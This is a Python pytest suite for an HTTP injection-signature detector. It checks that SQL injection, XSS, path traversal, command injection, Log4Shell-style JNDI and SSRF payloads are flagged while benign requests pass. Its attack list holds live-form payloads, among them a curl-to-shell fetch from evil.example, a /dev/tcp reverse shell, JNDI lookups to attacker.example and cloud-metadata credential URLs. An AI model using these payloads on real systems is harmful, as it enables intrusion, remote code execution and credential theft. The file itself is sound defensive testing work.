"""Injection signatures: decoding, the attack corpus caught by the right rule, benign traffic left alone."""

from __future__ import annotations

import importlib
import inspect
import json
import warnings
from pathlib import Path
from urllib.parse import quote, quote_plus

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detectors.signatures import (
    _SPLIT_OR_DECODE,
    REQUEST,
    RULES,
    SignatureSet,
    _split_or_decode_marks,
    decode_field,
    deobfuscate_lookups,
    injection_alerts,
    request_fields,
    scrub,
    sorted_distinct,
)
from parsers.transaction import Transaction

ROOT = Path(__file__).resolve().parents[2]
JWT = (
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9"
    ".eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIiwiaWF0IjoxNTE2MjM5MDIyfQ"
    ".SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
)
BROWSER_HEADERS = [
    (b"host", b"api.example.com"),
    (b"user-agent", b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                    b"Chrome/120.0.0.0 Safari/537.36"),
    (b"accept", b"application/json, text/plain, */*"),
    (b"accept-language", b"en-US,en;q=0.9,de;q=0.8"),
    (b"accept-encoding", b"gzip, deflate, br"),
    (b"authorization", b"Bearer " + JWT.encode()),
    (b"cookie", b"session=" + JWT.encode() + b"; _ga=GA1.2.1234567890.1700000000; theme=dark; "
                b"consent=%7B%22ads%22%3Afalse%7D"),
    (b"referer", b"http://localhost:3000/dashboard?tab=orders"),
    (b"origin", b"http://127.0.0.1:8080"),
    (b"x-forwarded-for", b"203.0.113.7, 10.0.0.1"),
    (b"if-none-match", b'W/"5e-3b2f1a"'),
    (b"x-request-id", b"550e8400-e29b-41d4-a716-446655440000"),
    (b"cache-control", b"no-cache"),
]  # fmt: skip


@pytest.fixture(scope="module")
def signatures() -> SignatureSet:
    return SignatureSet()


def request(
    target: str = "/api/v1/users/42",
    headers: list[tuple[bytes, bytes]] | None = None,
    body: bytes = b"",
    content_type: str = "",
    method: str = "GET",
) -> Transaction:
    path, _, query = target.partition("?")
    return Transaction(
        ts=1700000000.5, src_ip="127.0.0.66", src_port=40000, dst_ip="10.0.0.1", dst_port=80, method=method,
        uri=target, host="api.example.com", path=path, query=query, http_version="HTTP/1.1",
        endpoint="/api/v1/users/{id}", status=200, client_id="client-66", raw_target=target,
        req_headers=headers if headers is not None else [], req_body=body, req_content_type=content_type,
    )  # fmt: skip


def rules_of(signatures: SignatureSet, transaction: Transaction) -> list[str]:
    return [alert.rule for alert in injection_alerts(signatures, transaction)]


def case_ids(cases: list[tuple[str, str]]) -> list[str]:
    return [f"{rule}:{payload}" for rule, payload in cases]


ATTACKS = [
    ("sqli", "' OR '1'='1"),
    ("sqli", "1' OR '1'='1"),
    ("sqli", "1 UNION SELECT username,password FROM users--"),
    ("sqli", "1 union all select null,null,null--"),
    ("sqli", "x' UNION/**/SELECT/**/password/**/FROM/**/users--"),
    ("sqli", "-1 UNION SELECT @@version"),
    ("sqli", "admin'--"),
    ("sqli", "admin' #"),
    ("sqli", "1' or 1=1--"),
    ("sqli", '" or ""="'),
    ("sqli", "') or ('a'='a"),
    ("sqli", "1 OR 1=1"),
    ("sqli", "' or true--"),
    ("sqli", "1;DROP TABLE users"),
    ("sqli", "1'; DELETE FROM users--"),
    ("sqli", "1' AND SLEEP(5)--"),
    ("sqli", "1' and extractvalue(1,concat(0x7e,version()))--"),
    ("sqli", "'; exec xp_cmdshell 'dir'--"),
    ("sqli", "1 AND 1=1 UNION SELECT table_name FROM information_schema.tables"),
    ("sqli", "1'; WAITFOR DELAY '0:0:5'--"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "<img src=x onerror=alert(1)>"),
    ("xss", "<svg/onload=alert(1)>"),
    ("xss", "<body onload=alert(document.domain)>"),
    ("xss", "javascript:alert(document.cookie)"),
    ("xss", "<a href=\"javascript:void(0)\">x</a>"),
    ("xss", "\"><script src=//evil.example/x.js></script>"),
    ("xss", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("xss", "&#x3c;script&#x3e;alert(1)"),
    ("xss", "&#60;script&#62;alert(1)"),
    ("xss", "<iframe srcdoc='&lt;script&gt;'>"),
    ("xss", "<details open ontoggle=alert(1)>"),
    ("path_traversal", "../../etc/passwd"),
    ("path_traversal", "..%2f..%2fetc%2fpasswd"),
    ("path_traversal", "..%252f..%252f..%252fetc%252fpasswd"),
    ("path_traversal", "..\\..\\..\\windows\\win.ini"),
    ("path_traversal", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("path_traversal", "../../../../proc/self/environ"),
    ("path_traversal", "../.env"),
    ("path_traversal", "/etc/passwd"),
    ("path_traversal", "....//....//....//etc/passwd"),
    ("cmd_injection", ";cat /etc/passwd"),
    ("cmd_injection", "| id"),
    ("cmd_injection", "x || id"),
    ("cmd_injection", "$(whoami)"),
    ("cmd_injection", "`whoami`"),
    ("cmd_injection", "`cat /etc/hosts`"),
    ("cmd_injection", "127.0.0.1; ls -la"),
    ("cmd_injection", "x && uname -a"),
    ("cmd_injection", "127.0.0.1 & whoami"),
    ("cmd_injection", "a|sleep 10"),
    ("cmd_injection", "x; curl http://evil.example/s.sh | sh"),
    ("cmd_injection", "; /bin/sh -i"),
    ("cmd_injection", ";ping -c 10 10.0.0.1"),
    ("cmd_injection", "a${IFS}cat${IFS}/etc/passwd"),
    ("cmd_injection", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    ("cmd_injection", "powershell -enc SQBFAFgA"),
    ("cmd_injection", "| cmd.exe /c dir "),
    ("jndi", "${jndi:ldap://x/a}"),
    ("jndi", "${jndi:rmi://attacker.example:1099/Exploit}"),
    ("jndi", "${${lower:j}ndi:${lower:l}dap://x/a}"),
    ("jndi", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
    ("jndi", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"),
    ("jndi", "${j${k8s:k5:-ND}i:ldap://x/a}"),
    ("jndi", "${${upper:j}ndi:dns://x}"),
    ("jndi", "${${date:'j'}ndi:ldap://x/a}"),
    ("jndi", "${jNdI:ldap://x}"),
    ("jndi", "%24%7Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/"),
    ("ssrf", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"),
    ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
    ("ssrf", "http://metadata/computeMetadata/v1/instance"),
    ("ssrf", "http://[::ffff:a9fe:a9fe]/"),
    ("ssrf", "http://[::ffff:169.254.169.254]/latest/"),
    ("ssrf", "http://[fd00:ec2::254]/latest/meta-data/"),
    ("ssrf", "http://127.0.0.1:8080/admin"),
    ("ssrf", "http://localhost/admin"),
    ("ssrf", "https://user@169.254.169.254/"),
    ("ssrf", "http://2852039166/"),
    ("ssrf", "http://0xa9fea9fe/"),
    ("ssrf", "http://[::1]:6379/"),
    ("ssrf", "http://0.0.0.0:6379/"),
    ("ssrf", "http://169.254.170.2/v2/credentials"),
    ("ssrf", "http://100.100.100.200/latest/meta-data/"),
    ("ssrf", "http://127.0.0.1.nip.io/"),
    ("ssrf", "gopher://10.0.0.5:25/_HELO"),
]


@pytest.mark.parametrize(("rule", "payload"), ATTACKS, ids=case_ids(ATTACKS))
def test_attack_in_query_parameter_is_caught_by_its_rule(signatures, rule, payload):
    found = rules_of(signatures, request("/api/v1/users/42?page=1&id=" + quote(payload, safe="")))
    assert rule in found
    assert len(found) == len(set(found))


@pytest.mark.parametrize(("rule", "payload"), ATTACKS[::3], ids=case_ids(ATTACKS[::3]))
def test_attack_in_json_body_is_caught_by_its_rule(signatures, rule, payload):
    body = json.dumps({"name": "Alice", "comment": payload, "age": 42}).encode()
    assert rule in rules_of(signatures, request(body=body, content_type="application/json", method="POST"))


@pytest.mark.parametrize(("rule", "payload"), ATTACKS[1::3], ids=case_ids(ATTACKS[1::3]))
def test_attack_in_form_body_is_caught_by_its_rule(signatures, rule, payload):
    body = b"user=alice&comment=" + quote_plus(payload).encode() + b"&remember=on"
    found = rules_of(signatures, request(body=body, content_type="application/x-www-form-urlencoded", method="POST"))
    assert rule in found


HEADER_ATTACKS = [(rule, payload) for rule, payload in ATTACKS[2::3] if rule != "ssrf"]


@pytest.mark.parametrize(("rule", "payload"), HEADER_ATTACKS, ids=case_ids(HEADER_ATTACKS))
def test_attack_in_user_agent_is_caught_by_its_rule(signatures, rule, payload):
    headers = [*BROWSER_HEADERS[:1], (b"user-agent", payload.encode())]
    assert rule in rules_of(signatures, request(headers=headers))


def test_attack_in_raw_path_is_caught(signatures):
    assert rules_of(signatures, request("/api/v1/../../etc/passwd")) == ["path_traversal"]
    assert rules_of(signatures, request("/api/v1/products/..%2F..%2F..%2Fetc%2Fpasswd")) == ["path_traversal"]
    assert rules_of(signatures, request("/api/v1/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E")) == ["xss"]


def test_message_names_rule_field_endpoint_and_client(signatures):
    [alert] = injection_alerts(signatures, request("/api/v1/users/42?id=" + quote("' OR '1'='1")))
    assert alert.message == "SQL injection attempt in query parameter `id` of GET /api/v1/users/{id} from 127.0.0.66"
    assert (alert.detector, alert.rule, alert.severity) == ("injection", "sqli", "high")
    assert (alert.score, alert.count) == (1.0, 1)
    assert (alert.ts, alert.src_ip, alert.client_id, alert.method) == (1700000000.5, "127.0.0.66", "client-66", "GET")
    assert alert.evidence == "' OR '1'='1"


def test_severities_are_critical_for_jndi_and_command_injection():
    severities = {(rule.rule, rule.severity) for rule in RULES if rule.direction == REQUEST}
    assert severities == {
        ("sqli", "high"), ("xss", "high"), ("path_traversal", "high"), ("ssrf", "high"),
        ("cmd_injection", "critical"), ("jndi", "critical"),
    }  # fmt: skip


def test_one_alert_per_rule_even_when_several_fields_match(signatures):
    target = "/api/v1/users/42?a=" + quote("' OR '1'='1") + "&b=" + quote("1 UNION SELECT a,b FROM t--")
    headers = [(b"user-agent", b"' or 1=1--"), (b"referer", b"http://x/?q=%3Cscript%3Ealert(1)%3C/script%3E")]
    assert rules_of(signatures, request(target, headers)) == ["sqli", "xss"]


def test_ssrf_rule_ignores_headers_but_not_parameters(signatures):
    headers = [(b"referer", b"http://localhost:3000/app"), (b"x-callback", b"http://169.254.169.254/latest/")]
    assert rules_of(signatures, request("/api/v1/users/42", headers)) == []
    assert rules_of(signatures, request("/api/v1/hooks?url=http://localhost:3000/app", headers)) == ["ssrf"]


def test_cookie_attack_evidence_shows_only_the_attack(signatures):
    cookie = b"session=" + JWT.encode() + b"; pref=" + quote("' OR '1'='1").encode() + b"; other=s3cr3tvalue"
    [alert] = injection_alerts(signatures, request(headers=[(b"cookie", cookie)]))
    assert alert.message.startswith("SQL injection attempt in cookie `pref` of")
    assert alert.evidence == "' OR '1'="


def test_authorization_attack_evidence_shows_only_the_attack(signatures):
    headers = [(b"authorization", b"Basic YWxhZGRpbjpvcGVuc2VzYW1l ${jndi:ldap://x/a} trailing-secret-value")]
    [alert] = injection_alerts(signatures, request(headers=headers))
    assert alert.rule == "jndi"
    assert alert.evidence == "${jndi:"
    assert "YWxh" not in alert.evidence


def test_password_next_to_an_attack_is_masked_in_evidence(signatures):
    body = json.dumps({"username": "admin' OR '1'='1' --", "password": "hunter2"}).encode()
    [alert] = injection_alerts(signatures, request(body=body, content_type="application/json", method="POST"))
    assert "hunter2" not in alert.evidence
    assert alert.evidence.endswith('"password": "***')


def test_scrub_masks_secret_assignments_and_long_tokens():
    assert scrub('x token=abc123 y') == "x token=*** y"
    assert scrub(f"a {JWT} b") == "a " + ".".join(part[:4] + "*" * (len(part) - 8) + part[-4:]
                                                 for part in JWT.split(".")) + " b"  # fmt: skip


def test_attack_beyond_max_scan_bytes_is_not_scanned(signatures):
    body = b"x" * 100 + b"<script>alert(1)</script>"
    transaction = request(body=body, content_type="text/plain", method="POST")
    assert injection_alerts(signatures, transaction, max_scan_bytes=100) == []
    assert [alert.rule for alert in injection_alerts(signatures, transaction, max_scan_bytes=200)] == ["xss"]


def test_every_python_twin_finds_what_hyperscan_found(signatures):
    for rule, payload in ATTACKS:
        for _, _, text in request_fields("/?q=" + quote(payload, safe=""), [], b"", ""):
            for signature_id in list(signatures.scan(text)):
                assert signatures.signatures[signature_id].regex.search(text), (rule, payload, text)


# --- decoding ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("raw", "kwargs", "decoded"),
    [
        (b"%27%20OR%20%271", {}, b"' OR '1"),
        (b"%252e%252e%252f", {}, b"../"),
        (b"%25252e", {"rounds": 2}, b"%2e"),
        (b"a+b%2Bc", {"plus_as_space": True}, b"a b+c"),
        (b"a+b", {}, b"a+b"),
        (b"%u003cscript%u003E", {}, b"<script>"),
        (b"&lt;b&gt;&#60;&#x3C;&#0000060&quot;&amp;lt;", {}, b"<b><<<\"<"),
        (b"&unknown; &copy", {}, b"&unknown; &copy"),
        (b'\\u003cscript\\u003e \\"q\\" \\/x', {"json_escapes": True}, b'<script> "q" /x'),
        (b"100% cotton & wool", {}, b"100% cotton & wool"),
        (b"plain-value_1.2", {}, b"plain-value_1.2"),
        (b"%E6%97%A5", {}, "日".encode()),
    ],
)
def test_decode_field(raw, kwargs, decoded):
    assert decode_field(raw, **kwargs) == decoded


@pytest.mark.parametrize(
    ("obfuscated", "plain"),
    [
        (b"${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://x}", b"${jndi:ldap://x}"),
        (b"${${::-j}${::-n}${::-d}${::-i}:rmi://x}", b"${jndi:rmi://x}"),
        (b"${${env:BARFOO:-j}ndi${env:BARFOO:-:}ldap://x}", b"${jndi:ldap://x}"),
        (b"${j${k8s:k5:-ND}i:ldap://x}", b"${jNDi:ldap://x}"),
        (b"${${date:'j'}ndi:x}", b"${jndi:x}"),
        (b"${jndi:ldap://x:-1/a}", b"${jndi:ldap://x:-1/a}"),
        (b"price ${amount} total", b"price ${amount} total"),
    ],
)
def test_deobfuscate_lookups(obfuscated, plain):
    assert deobfuscate_lookups(obfuscated) == plain


def test_request_fields_split_query_form_cookies_and_headers():
    fields = request_fields(
        "/a%2Fb?x=1&na%3Cme=v+w&empty=#frag",
        [(b"cookie", b"s=abc; t=%3Cx"), (b"user-agent", b"curl/8.0")],
        b"u=alice&p=p%40ss",
        "application/x-www-form-urlencoded",
    )
    assert fields == [
        ("path", b"", b"/a/b"),
        ("query parameter", b"x", b"1"),
        ("query parameter name", b"na<me", b"na<me"),
        ("query parameter", b"na<me", b"v w"),
        ("form field", b"u", b"alice"),
        ("form field", b"p", b"p@ss"),
        ("cookie", b"s", b"abc"),
        ("cookie", b"t", b"<x"),
        ("header", b"user-agent", b"curl/8.0"),
    ]


# --- benign traffic ------------------------------------------------------------------------------------------------

BENIGN_TARGETS = [
    "/api/v1/users/42",
    "/api/v1/users/42/orders?page=2&per_page=50",
    "/api/v1/search?q=blue+shoes",
    "/api/v1/search?q=select+your+plan+or+upgrade+to+the+union+bundle",
    "/api/v1/search?q=%22quoted+phrase%22+and+more",
    "/api/v1/search?q=rock%20%27n%27%20roll",
    "/api/v1/search?q=O%27Brien%27s+pub",
    "/api/v1/search?q=it%27s+5+o%27clock+or+later",
    "/api/v1/search?q=C%2B%2B+%26+Rust",
    "/api/v1/search?q=100%25+cotton",
    "/api/v1/search?q=Tom+%26+Jerry&lang=en-US",
    "/api/v1/search?q=cats+%7C+dogs",
    "/api/v1/search?q=drop+shipping+table+lamps",
    "/api/v1/search?q=and+1+more+thing",
    "/api/v1/products?category=shoes&sort=-price&fields=id,name,price",
    "/api/v1/geo?lat=52.52&lon=13.405&radius=2.5km",
    "/api/v1/redirect?next=https%3A%2F%2Fapp.example.com%2Fdashboard%3Ftab%3D1",
    "/api/v1/callbacks?url=https://hooks.example.org/notify?x=1",
    "/api/v1/users?email=alice%40example.com",
    "/api/v1/tags/%E6%97%A5%E6%9C%AC",
    "/api/v2/items;jsessionid=ABC123DEF456",
    "/static/app.3f2a1b9c.js",
    "/api/v1/files/report-2024-01-31.pdf",
    "/api/v1/files?path=docs/guide/intro.md",
    "/api/v1/files?path=../assets/logo.png",
    "/api/v1/events?from=2024-01-01T00:00:00Z&to=2024-01-31T23:59:59%2B01:00",
    "/api/v1/items?ids[]=1&ids[]=2&filter[status]=open",
    "/api/v1/search?q=status+%3D+%27open%27+AND+priority+%3D+%27high%27",
    "/api/v1/math?expr=2*(3%2B4)%3D14",
    "/api/v1/jobs?cron=*/5+*+*+*+*",
    "/api/v1/time?tz=America/New_York&fmt=%25Y-%25m-%25d",
]
BENIGN_JSON = [
    {"name": "Alice O'Neil", "email": "alice@example.com", "age": 42, "tags": ["a", "b"]},
    {"bio": "I love SQL; select statements and unions are my thing. Drop me a line!"},
    {"comment": "Please select the union of both sets, or else choose the intersection."},
    {"query": "status = 'open' AND priority = 'high'", "limit": 50},
    {"filter": "price >= 10 and price <= 100 or rating > 4"},
    {"description": "Use ../images/logo.png for the header", "path": "docs/guide/intro.md"},
    {"url": "https://cdn.example.com/a/b.js", "callback": "https://api.partner.io/hooks?x=1&y=2"},
    {"markdown": "Run `npm install`, then read the `id` field.\n\n| Name | ID |\n|---|---|\n| a | 1 |"},
    {"html": "<p>Hello <b>world</b> &amp; friends, see <a href=\"https://example.com\">this</a></p>"},
    {"title": "JavaScript: The Good Parts", "price": 29.99, "isbn": "978-0596517748"},
    {"note": "Meeting at 10:00; cat lovers welcome & dogs too. Bring snacks | drinks."},
    {"password": "Tr0ub4dor&3", "username": "alice", "remember": True},
    {"email": "bob.smith+tag@example.co.uk", "phone": "+1 (555) 123-4567"},
    {"text": "Versions 1 or 2 are supported; upgrade and enjoy. It's 'fine' or 'great' is a matter of taste."},
    {"expr": "a || b && c", "regex": "^[a-z]+$", "glob": "*.txt", "template": "Hello {{name}}"},
    {"note": "The service listens on localhost port 8080 and on 127.0.0.1 too."},
    {"time": "12:30", "ratio": "3/4", "range": "10-20", "version": "1.2.3-beta+build.5"},
    {"greeting": "Grüße aus Köln — 日本語のテキスト", "emoji": "🎉"},
    {"address": {"street": "1 Infinite Loop", "city": "Cupertino", "zip": "95014"}},
    {"sql_help": "Use SELECT name FROM users WHERE id = 1 to find a user"},
    {"shell_help": "Type ls to list files and cat to print them"},
    {"order": {"items": [{"sku": "SKU-1", "qty": 2}], "coupon": "SAVE10", "notes": "Leave at door; ring bell"}},
    {"price": "$19.99", "template": "Total: ${amount} incl. VAT", "currency": "USD"},
]
BENIGN_FORMS = [
    b"username=alice&password=p%40ss%26word&remember=on",
    b"comment=I+said+%27hello%27+and+left&rating=5",
    b"q=select+a+plan&sort=name",
    b"redirect_uri=https%3A%2F%2Fapp.example.com%2Fcallback&grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA",
]


def test_benign_requests_raise_no_alert(signatures):
    transactions = [request(target, BROWSER_HEADERS) for target in BENIGN_TARGETS]
    transactions += [
        request(body=json.dumps(body).encode(), content_type="application/json", method="POST", headers=BROWSER_HEADERS)
        for body in BENIGN_JSON
    ]
    transactions += [
        request(body=body, content_type="application/x-www-form-urlencoded", method="POST") for body in BENIGN_FORMS
    ]
    headers_variants = [
        [(b"user-agent", b"curl/8.5.0")],
        [(b"user-agent", b"python-requests/2.31.0"), (b"accept", b"*/*")],
        [(b"user-agent", b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")],
        [(b"user-agent", b"ShopApp/5.1 (iOS 17.2; iPhone14,2)"), (b"x-api-version", b"2024-01-01")],
        [(b"authorization", b"Basic YWxhZGRpbjpvcGVuc2VzYW1l"), (b"content-type", b"multipart/form-data; "
                                                                  b"boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW")],
    ]  # fmt: skip
    transactions += [request(headers=headers) for headers in headers_variants]
    found = [(alert.rule, alert.evidence) for transaction in transactions
             for alert in injection_alerts(signatures, transaction)]  # fmt: skip
    assert found == []


def _documentation_prose() -> list[tuple[str, str]]:
    modules = ["os", "re", "json", "sqlite3", "html", "urllib.parse", "email", "http.server", "subprocess", "shutil",
               "pathlib", "argparse", "logging", "collections", "typing", "dataclasses", "asyncio", "unittest", "csv",
               "string", "textwrap", "datetime", "decimal", "statistics", "random", "itertools", "socket", "base64",
               "zipfile", "tarfile", "pydoc", "doctest", "difflib", "pickle", "configparser", "smtplib"]  # fmt: skip
    docs = []
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name in modules:
            module = importlib.import_module(name)
            for member, value in inspect.getmembers(module):
                doc = inspect.getdoc(value)
                if doc:
                    docs.append((f"{name}.{member}", doc))
    return docs


def test_python_documentation_prose_as_json_bodies_raises_no_alert(signatures):
    """Thousands of real English paragraphs with SQL, shell and HTML words in them, posted as JSON bodies."""
    docs = _documentation_prose()
    assert len(docs) > 2000
    found = []
    for name, doc in docs:
        body = json.dumps({"title": name, "text": doc}).encode()
        transaction = request(body=body, content_type="application/json", method="POST")
        found += [(name, alert.rule, alert.evidence) for alert in injection_alerts(signatures, transaction)]
    assert found == []


# --- real captures -------------------------------------------------------------------------------------------------


def replay_transactions(path: Path) -> list[Transaction]:
    from sniffer.capture.pcapfile import open_capture
    from sniffer.config import load_config
    from sniffer.replay import replay

    transactions: list[Transaction] = []
    replay([open_capture(str(path))], load_config(), transactions.append)
    return transactions


def test_dvwa_capture_sqli_attacks_are_caught(signatures):
    transactions = replay_transactions(ROOT.parent / "shared" / "pcaps-public" / "zeek-cooper-grill-dvwa.pcapng")
    alerts = [alert for transaction in transactions for alert in injection_alerts(signatures, transaction)]
    assert [(alert.rule, alert.evidence) for alert in alerts] == [
        ("sqli", "1' OR '1'='1"),
        ("sqli", "1' UNION SELECT NULL, version() #"),
        ("sqli", "2' OR '2'='2"),
    ]


def test_labelled_injection_capture_matches_labels_exactly(signatures):
    labels = json.loads((ROOT / "pcaps" / "attacks_labels.json").read_text())
    capture = "attacks_bruteforce_injection.pcap"
    expected = [label for label in labels["attacks"]
                if label["capture"] == capture and label["detector"] == "injection"]  # fmt: skip
    transactions = replay_transactions(ROOT / "pcaps" / capture)
    alerts = [alert for transaction in transactions for alert in injection_alerts(signatures, transaction)]
    unmatched = list(alerts)
    for label in expected:
        rules = {label["rule"], *label.get("also_matches", [])}
        matching = [alert for alert in unmatched if alert.src_ip == label["src_ip"] and alert.rule in rules
                    and alert.method == label["method"] and alert.endpoint == label.get("endpoint", alert.endpoint)
                    and alert.rule == label["rule"]]  # fmt: skip
        assert matching, label
        unmatched.remove(matching[0])
    also_right = [alert for alert in unmatched if alert.rule == "path_traversal" and "sort" in alert.message]
    assert unmatched == also_right
    assert len(alerts) == len(expected) + len(also_right)


def test_compiled_database_cached_on_disk_scans_like_a_fresh_one(tmp_path, monkeypatch) -> None:
    from detectors.signatures import SignatureSet

    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path))
    fresh = SignatureSet()
    assert list((tmp_path / "apispy").glob("hyperscan-*.db"))
    cached = SignatureSet()
    sample = b"id=1 UNION SELECT password FROM users-- <script>alert(1)</script> ${jndi:ldap://x/a}"
    assert sorted(cached.scan(sample)) == sorted(fresh.scan(sample)) != []


@pytest.mark.parametrize("hit_units", [(), (0,), (5,), (0, 16, 17, 39), tuple(range(40))])
def test_units_with_hits_finds_exactly_the_units_that_match(signatures, hit_units) -> None:
    """The groups and the single units agree with scanning every unit alone, wherever the hits
    are (first unit, group edges, last unit, all)."""
    parts, bounds = [], [0]
    for unit in range(40):
        fields = [f"/api/v1/items/{unit}".encode(), b"application/json"]
        if unit in hit_units:
            fields.insert(1, b"1' OR '1'='1")
        parts += fields
        bounds.append(len(parts))
    expected = [unit for unit in range(40) if signatures.scan(b"\x00".join(parts[bounds[unit]:bounds[unit + 1]]),
                                                              REQUEST)]  # fmt: skip
    assert expected == list(hit_units)
    assert signatures.units_with_hits(parts, bounds, REQUEST) == expected


# Parts that hit at their very start or end, where an expression takes the NUL around a part as the text's edge,
# and parts that do not hit; in the tests below they are shared between units as header texts are.
_RESPONSE_PARTS = [
    b"4111111111111111 was charged", b"card: 5500000000000004", b'{"email": "a@example.com"}',
    b"-----BEGIN RSA PRIVATE KEY-----", b'{"id": 17, "total": 12.5}', b"content-type: application/json", b"",
]
_REQUEST_PARTS = [
    b"1' OR '1'='1", b"x\" --", b"q=a && sleep 5", b"../../etc/passwd", b"/api/v1/items/17", b"page=2&size=50",
    b"user-agent: curl/8.5.0", b"",
]


def _units_alone(signatures: SignatureSet, parts: list[bytes], bounds: list[int], direction: str) -> list[int]:
    return [unit for unit in range(len(bounds) - 1)
            if signatures.scan(b"\x00".join(parts[bounds[unit]:bounds[unit + 1]]), direction)]  # fmt: skip


@settings(max_examples=150, deadline=None)
@given(
    st.sampled_from([(REQUEST, _REQUEST_PARTS), ("response", _RESPONSE_PARTS)]),
    st.lists(st.lists(st.integers(0, 7), max_size=4), max_size=40),
    st.booleans(),
)
def test_located_units_are_those_that_match_alone(signatures, direction_and_pool, units, too_many) -> None:
    """Located from one scan of the distinct parts (shared ones once), or, past the match limit, by groups of
    units: either way exactly the units whose parts, scanned alone, match."""
    import detectors.signatures as module

    direction, pool = direction_and_pool
    parts, bounds = [], [0]
    for unit in units:
        parts += [pool[index % len(pool)] for index in unit]  # the same objects, as shared header texts are
        bounds.append(len(parts))
    limit = module.LOCATE_MAX_MATCHES
    module.LOCATE_MAX_MATCHES = 1 if too_many else limit
    try:
        found = signatures.units_with_hits(parts, bounds, direction)
    finally:
        module.LOCATE_MAX_MATCHES = limit
    assert found == _units_alone(signatures, parts, bounds, direction)


def test_units_with_hits_scans_only_one_direction(signatures) -> None:
    parts = [b"card 4111111111111111", b"<script>alert(1)</script>"]
    assert signatures.units_with_hits(parts, [0, 1, 2], REQUEST) == [1]
    assert signatures.units_with_hits(parts, [0, 1, 2], "response") == [0]


def test_injection_alerts_of_a_batch_equal_those_of_each_request_alone(signatures) -> None:
    from detectors.signatures import injection_alerts_batch

    batch = [
        request(f"/api/v1/users/{n}?q=" + quote(payload), headers=BROWSER_HEADERS)
        for n, payload in enumerate(["shoes", "' OR '1'='1", "red", "<script>alert(1)</script>", "blue"] * 8)
    ]
    batch.append(request(headers=[*BROWSER_HEADERS, (b"x-api-version", b"${jndi:ldap://x/a}")]))
    alone = [injection_alerts(signatures, transaction) for transaction in batch]
    assert injection_alerts_batch(signatures, batch).as_lists(len(batch)) == alone
    assert sum(map(len, alone)) == 17


def test_header_fields_are_remembered_but_never_shared_across_different_headers(signatures) -> None:
    from detectors.signatures import header_fields

    first = header_fields([(b"user-agent", b"curl/8"), (b"x-q", b"%27")], 65536, 3)
    assert first == [("header", b"user-agent", b"curl/8"), ("header", b"x-q", b"'")]
    assert header_fields([(b"user-agent", b"curl/8"), (b"x-q", b"%27")], 65536, 3) is first
    assert header_fields([(b"user-agent", b"curl/8"), (b"x-q", b"%28")], 65536, 3)[1][2] == b"("
    assert header_fields([(b"user-agent", b"curl/8"), (b"x-q", b"%27")], 65536, 1) is not first


TARGET_ALPHABET = st.sampled_from(list("/az09%27+&=?#$\\{}.é\x00 '<>"))


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(TARGET_ALPHABET, max_size=24), min_size=1, max_size=6))
def test_target_texts_are_the_target_fields_texts_remembered_or_not(targets: list[str]) -> None:
    from detectors.signatures import _target_fields, _target_texts

    memo: dict[str, list[bytes]] = {}
    for target in targets * 2:  # the second time from the memo, when remembered
        expected = [text for _, _, text in _target_fields(target, 65536, 3)]
        assert _target_texts(memo, target, 65536, 3) == expected
        assert _target_texts({}, target, 4, 3) == [text for _, _, text in _target_fields(target, 4, 3)]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(st.one_of(TARGET_ALPHABET, st.just("€")), max_size=24), min_size=1, max_size=8),
       st.sampled_from([65536, 4]))  # "€" is no latin-1: it becomes "?", a query's start, as on the wire
def test_a_batchs_marked_target_texts_are_each_targets_own(targets: list[str], max_scan_bytes: int) -> None:
    """The batch scan cuts paths and queries from the joined targets where it can: the texts are those
    `_target_texts` gives each target with something to split or decode, in order."""
    from detectors.signatures import _SPLIT_OR_DECODE, _marked_target_texts, _target_texts

    joined = "\x00".join(targets).encode("latin-1", "replace")
    expected = [text for target in targets if _SPLIT_OR_DECODE.search(target.encode("latin-1", "replace"))
                for text in _target_texts({}, target, max_scan_bytes, 3)]  # fmt: skip
    assert _marked_target_texts(joined, targets, {}, max_scan_bytes, 3) == expected


def test_a_path_before_the_first_question_mark_or_hash_needs_no_decoding() -> None:
    """`_target_texts` takes such a path as it is: every byte that decoding looks for is one that ends the fast
    path's search before it (`_SPLIT_OR_DECODE`), so a path without one is a path decode_field leaves alone."""
    from detectors.signatures import _NEEDS_DECODING, _PATH_ENDS, _SPLIT_OR_DECODE

    for byte in range(256):
        if _NEEDS_DECODING(bytes([byte])) is not None:
            assert _SPLIT_OR_DECODE.search(bytes([byte])) is not None and byte not in _PATH_ENDS


def test_target_memo_is_bounded(monkeypatch) -> None:
    from detectors import signatures as module

    monkeypatch.setattr(module, "TARGET_MEMO_ENTRIES", 8)
    memo: dict[str, list[bytes]] = {}
    for n in range(100):
        module._target_texts(memo, f"/search?q={n}", 65536, 3)
    assert 0 < len(memo) <= 8
    module._target_texts(memo, "/" + "a%41" * 200, 65536, 3)  # longer than TARGET_MEMO_MAX_CHARS: not kept
    assert all(len(target) <= module.TARGET_MEMO_MAX_CHARS for target in memo)


def test_shared_header_lists_and_repeated_targets_are_judged_per_request(signatures) -> None:
    """The batch's first pass scans each distinct target and header list once: requests that share them (as the
    head reader's remembered heads do) must still each get their own alerts, and only theirs."""
